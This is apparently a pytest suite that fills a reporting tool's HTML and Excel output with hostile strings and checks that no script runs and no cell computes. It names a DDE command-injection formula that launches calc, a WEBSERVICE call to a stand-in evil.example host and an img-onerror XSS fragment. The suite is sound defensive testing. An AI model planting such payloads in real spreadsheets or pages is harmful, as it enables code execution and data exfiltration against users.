"""Hostile texts in every text column: nothing runs in a browser or computes in Excel or CSV."""

import csv
import io
import re
import zipfile
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import pandas as pd
import pytest
from python_calamine import CalamineWorkbook

from tests.report.hostile import HOSTILE, is_text, write_hostile
from tests.report.toys import COMMON
from workbench.company import load_company
from workbench.privacy.cells import csv_text, is_live
from workbench.report.reports import make_reports
from workbench.schema import TABLES

SHOW = """\
import plotly.express as px
from workbench.charts.cards import Card, show_cards
from workbench.charts.show import note, say, show, show_table
from workbench.charts.tables import html_table
from workbench.company import load_company

company = load_company(data)
for place, (name, table) in enumerate(company.tables.items()):
    texts = table.select_dtypes("str")
    if texts.empty or not len(texts.columns):
        continue
    first = texts.columns[-1]
    title = str(texts[first].iloc[0])
    # Each figure draws other texts, so that all of them together are drawn.
    drawn = texts.iloc[(place * 10) % len(texts) :].head(10)
    figure = px.bar(drawn, y=first, hover_data=list(texts), title=title)
    figure.update_layout(meta={"alt": str(texts[first].iloc[1])})
    show(figure, texts, caption=str(texts[first].iloc[2]))
    show_table(texts, caption=name, most=50, under=str(texts[first].iloc[3]))
words = company.positions["title"]
say(*words, most=20)
note(words.iloc[5])
bars = px.bar(x=words.head(9), y=range(9), title=words.iloc[7])
cards = [Card(word, (html_table(company.tables["assets"].head(3)), bars)) for word in words.head(9)]
show_cards(cards, choose=words.iloc[6])
print(*words, sep="\\n")
"""


@pytest.fixture(scope="module")
def made(tmp_path_factory: pytest.TempPathFactory) -> Path:
    """Make the report of a company whose every text column is hostile, with its workbook."""
    import nbformat
    from nbformat.v4 import new_code_cell, new_markdown_cell, new_notebook

    folder = tmp_path_factory.mktemp("hostile")
    write_hostile(folder / "data")
    cells = [
        new_markdown_cell("# A toy"),
        new_code_cell(
            f"{COMMON}show_names: bool = True  # Names", metadata={"tags": ["parameters"]}
        ),
        new_code_cell(SHOW),
    ]
    (folder / "notebooks").mkdir()
    nbformat.write(new_notebook(cells=cells), folder / "notebooks" / "1-toy.ipynb")
    (result,) = make_reports(
        data=folder / "data", out=folder / "out", notebooks_dir=folder / "notebooks"
    )
    assert result.ok, result.message
    return folder


def test_the_corpus_is_large_and_reaches_every_text_column(made: Path) -> None:
    assert len(set(HOSTILE)) >= 200
    company = load_company(made / "data")
    columns = [(name, column.name) for name in TABLES for column in TABLES[name] if is_text(column)]
    assert len(columns) >= 25
    for name, column in columns:
        assert company.tables[name][column].nunique() > 150, (name, column)


def test_nothing_runs_in_the_browser(browser: Any, made: Path) -> None:
    page = browser.new_context(offline=True).new_page()
    said, asked = [], []
    page.on("console", lambda message: said.append(message.text))
    page.on("pageerror", lambda error: said.append(str(error)))
    page.on("dialog", lambda dialog: said.append(dialog.message))
    page.on("request", lambda request: asked.append(request.url))
    address = (made / "out" / "1-toy.html").as_uri()
    page.goto(address)
    page.wait_for_function(
        "count => document.querySelectorAll('.main-svg').length > count",
        arg=40,
        timeout=60_000,
    )
    for fold in page.query_selector_all("details"):
        fold.evaluate("fold => { fold.open = true }")
    page.wait_for_timeout(500)
    assert page.evaluate("window.ran") is None
    assert page.title() != "ran"
    acting = "main script:not([type]), main img, main iframe, main svg script"
    assert page.evaluate(f"document.querySelectorAll('{acting}').length") == 0
    live = "[...document.querySelectorAll('main *')].filter(tag => [...tag.attributes].some("
    live += "a => a.name.startsWith('on') || /^\\s*javascript:/i.test(a.value))).length"
    assert page.evaluate(live) == 0
    assert [url for url in asked if not url.startswith(("data:", "blob:"))] == [address]
    assert said == []
    page.goto((made / "out" / "index.html").as_uri())
    assert page.evaluate("window.ran") is None
    page.context.close()


@pytest.fixture(scope="module")
def parts(made: Path) -> Iterator[dict[str, str]]:
    with zipfile.ZipFile(made / "out" / "1-toy.xlsx") as book:
        yield {name: book.read(name).decode("utf-8") for name in book.namelist()}


def test_nothing_computes_in_the_workbook(parts: dict[str, str]) -> None:
    text = "\n".join(parts.values())
    assert not re.search(
        r"<f[ >]|<definedName (?![^>]*_FilterDatabase)|<dde|<externalLink|<ole", text
    )
    assert 'TargetMode="External"' not in text
    assert not [name for name in parts if re.search("vba|external|embed|connections", name)]
    sheets = [text for name, text in parts.items() if name.startswith("xl/worksheets/sheet")]
    kinds = {kind for sheet in sheets for kind in re.findall(r'<c [^>]*\bt="(\w+)"', sheet)}
    assert kinds == {"s"}
    assert not re.search(r"[\x00-\x08\x0b\x0c\x0e-\x1f\ufffe\uffff]", text)


def test_the_workbook_can_be_read_and_holds_the_texts(made: Path) -> None:
    book = CalamineWorkbook.from_path(made / "out" / "1-toy.xlsx")
    assert len(book.sheet_names) > 40
    assert all(len(name) <= 31 for name in book.sheet_names)
    cells = {
        cell
        for name in book.sheet_names
        for row in book.get_sheet_by_name(name).to_python()
        for cell in row
        if isinstance(cell, str)
    }
    for text in ("=1+1", "@SUM(1+1)*cmd|' /C calc'!A0", '+WEBSERVICE("http://evil.example")'):
        assert text in cells
    assert any("<img src=x onerror=" in cell for cell in cells)


def test_no_cell_of_a_csv_is_a_formula() -> None:
    frame = pd.DataFrame({"=1+1": HOSTILE, "number": range(len(HOSTILE))})
    rows = list(csv.reader(io.StringIO(csv_text(frame), newline="")))
    assert len(rows) == len(HOSTILE) + 1
    assert not [row for row in rows if is_live(row[0])]
    assert [float(row[1]) for row in rows[1:]] == list(range(len(HOSTILE)))
    assert {"'=1+1", "null"} <= {row[0] for row in rows}
